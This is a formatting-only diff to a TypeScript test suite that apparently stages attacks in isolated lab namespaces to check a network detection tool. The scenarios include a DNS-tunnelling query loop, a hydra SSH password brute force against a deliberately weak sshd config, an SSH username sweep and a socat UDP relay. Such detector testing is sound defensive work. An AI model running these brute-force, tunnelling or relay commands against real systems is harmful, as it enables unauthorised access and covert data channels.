@@ -16,18 +16,22 @@ const STUB = '127.0.0.53';
 const OPENSSH_PORT = 2022;
 
 const outbound = (alert: Alert): boolean => alert.evidence.direction === 'outbound';
-const targetHosts = (alert: Alert): string[] => (Array.isArray(alert.evidence.targetHosts) ? alert.evidence.targetHosts as string[] : []);
+const targetHosts = (alert: Alert): string[] => (Array.isArray(alert.evidence.targetHosts) ? (alert.evidence.targetHosts as string[]) : []);
 
 /** A stub resolver on 127.0.0.53:53 in the victim that answers every query NXDOMAIN at once. */
 function stubResolver(lab: Lab): LabProcess {
-  return lab.run(NS.victim, ['python3', '-c', [
-    'import socket',
-    's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
-    `s.bind(("${STUB}", 53))`,
-    'while True:',
-    '    d, a = s.recvfrom(512)',
-    '    if len(d) >= 12: s.sendto(d[:2] + b"\\x81\\x83" + d[4:6] + bytes(6) + d[12:], a)',
-  ].join('\n')]);
+  return lab.run(NS.victim, [
+    'python3',
+    '-c',
+    [
+      'import socket',
+      's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
+      `s.bind(("${STUB}", 53))`,
+      'while True:',
+      '    d, a = s.recvfrom(512)',
+      '    if len(d) >= 12: s.sendto(d[:2] + b"\\x81\\x83" + d[4:6] + bytes(6) + d[12:], a)',
+    ].join('\n'),
+  ]);
 }
 
 /** Fresh UDP socket per query to the stub, ~25 queries/s of 50-character random labels. */
@@ -54,11 +58,22 @@ while time.time() < end:
 async function victimOpenSsh(lab: Lab): Promise<LabProcess> {
   const dir = mkdtempSync(join(lab.tmp, 'sshd-victim-'));
   execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', join(dir, 'host')]);
-  writeFileSync(join(dir, 'sshd_config'), [
-    `Port ${OPENSSH_PORT}`, `ListenAddress ${ADDR.victim}`, `HostKey ${join(dir, 'host')}`, 'PermitRootLogin yes',
-    'PasswordAuthentication yes', 'KbdInteractiveAuthentication no', 'UsePAM no', 'StrictModes no', 'MaxStartups 100',
-    'PidFile none', '',
-  ].join('\n'));
+  writeFileSync(
+    join(dir, 'sshd_config'),
+    [
+      `Port ${OPENSSH_PORT}`,
+      `ListenAddress ${ADDR.victim}`,
+      `HostKey ${join(dir, 'host')}`,
+      'PermitRootLogin yes',
+      'PasswordAuthentication yes',
+      'KbdInteractiveAuthentication no',
+      'UsePAM no',
+      'StrictModes no',
+      'MaxStartups 100',
+      'PidFile none',
+      '',
+    ].join('\n'),
+  );
   const sshd = lab.run(NS.victim, ['/usr/sbin/sshd', '-D', '-e', '-f', join(dir, 'sshd_config')]);
   await waitForSocket(lab, NS.victim, ['-ltn'], `${ADDR.victim}:${OPENSSH_PORT}`);
   return sshd;
@@ -127,8 +142,11 @@ export const GAP_VARIANT_SCENARIOS: Scenario[] = [
     async stage(lab) {
       const stub = stubResolver(lab);
       await waitForSocket(lab, NS.victim, ['-lun'], `${STUB}:53`);
-      const loop = lab.run(NS.victim, ['bash', '-c',
-        `while :; do dig @${STUB} +tries=1 +time=1 +short TXT $(head -c 25 /dev/urandom | base32 | tr -d = | tr A-Z a-z).${TUNNEL_ZONE} > /dev/null; done`]);
+      const loop = lab.run(NS.victim, [
+        'bash',
+        '-c',
+        `while :; do dig @${STUB} +tries=1 +time=1 +short TXT $(head -c 25 /dev/urandom | base32 | tr -d = | tr A-Z a-z).${TUNNEL_ZONE} > /dev/null; done`,
+      ]);
       return {
         names: (alert) => (alert.process?.pid === loop.pid || alert.process?.name === 'dig' || alert.process?.name === 'bash') && mentions(alert, STUB),
         stop: stopping(loop, stub),
@@ -156,11 +174,25 @@ export const GAP_VARIANT_SCENARIOS: Scenario[] = [
     expected: 'T1110',
     mustName: `source ${ADDR.attacker}`,
     needs: ['hydra', '/usr/sbin/sshd', 'ssh-keygen'],
-    knownGap: 'no connection to the victim sshd reached the socket tables in the lab run (hydra works against the same sshd config between two namespaces by hand): staging to be checked',
+    knownGap:
+      'no connection to the victim sshd reached the socket tables in the lab run (hydra works against the same sshd config between two namespaces by hand): staging to be checked',
     windowMs: 40_000,
     async stage(lab) {
       const sshd = await victimOpenSsh(lab);
-      const guesser = lab.run(NS.attacker, ['sh', '-c', 'cd "$0" && exec hydra "$@"', lab.tmp, '-l', 'root', '-P', wordlist(lab, 300), '-t', '4', '-I', `ssh://${ADDR.victim}:${OPENSSH_PORT}`]);
+      const guesser = lab.run(NS.attacker, [
+        'sh',
+        '-c',
+        'cd "$0" && exec hydra "$@"',
+        lab.tmp,
+        '-l',
+        'root',
+        '-P',
+        wordlist(lab, 300),
+        '-t',
+        '4',
+        '-I',
+        `ssh://${ADDR.victim}:${OPENSSH_PORT}`,
+      ]);
       return { names: (alert) => isEndpoint(alert.source, ADDR.attacker) || mentions(alert, ADDR.attacker), stop: stopping(guesser, sshd) };
     },
   },
@@ -177,7 +209,11 @@ export const GAP_VARIANT_SCENARIOS: Scenario[] = [
       const dir = mkdtempSync(join(lab.tmp, 'stranger-'));
       execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', join(dir, 'key')]);
       const opts = `-o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o IdentitiesOnly=yes -i ${join(dir, 'key')}`;
-      const loop = lab.run(NS.victim, ['bash', '-c', `for u in root admin ubuntu deploy git oracle test user; do for i in $(seq 12); do ssh ${opts} -p 2222 $u@${ADDR.ext} true 2>/dev/null; done; done`]);
+      const loop = lab.run(NS.victim, [
+        'bash',
+        '-c',
+        `for u in root admin ubuntu deploy git oracle test user; do for i in $(seq 12); do ssh ${opts} -p 2222 $u@${ADDR.ext} true 2>/dev/null; done; done`,
+      ]);
       return {
         names: (alert) => (alert.process?.name === 'ssh' || alert.process?.pid === loop.pid || alert.process?.name === 'bash') && mentions(alert, ADDR.ext),
         stop: stopping(loop, server),
@@ -196,8 +232,11 @@ export const GAP_VARIANT_SCENARIOS: Scenario[] = [
       const sink = lab.run(NS.ext, ['socat', '-u', `UDP4-RECV:5353,bind=${ADDR.ext}`, '/dev/null']);
       const relay = lab.run(NS.victim, ['socat', `UDP4-LISTEN:5300,bind=${ADDR.victim},fork,reuseaddr`, `UDP4:${ADDR.ext}:5353`]);
       await waitForSocket(lab, NS.victim, ['-lun'], `${ADDR.victim}:5300`);
-      const client = lab.run(NS.attacker, ['python3', '-c',
-        `import socket, time\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(400):\n    s.sendto(b"chunk %d" % i, ("${ADDR.victim}", 5300)); time.sleep(0.25)`]);
+      const client = lab.run(NS.attacker, [
+        'python3',
+        '-c',
+        `import socket, time\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(400):\n    s.sendto(b"chunk %d" % i, ("${ADDR.victim}", 5300)); time.sleep(0.25)`,
+      ]);
       return {
         names: (alert) => alert.techniqueId === 'T1090' && mentions(alert, `${ADDR.ext}:5353`) && mentions(alert, ADDR.attacker),
         stop: stopping(client, relay, sink),
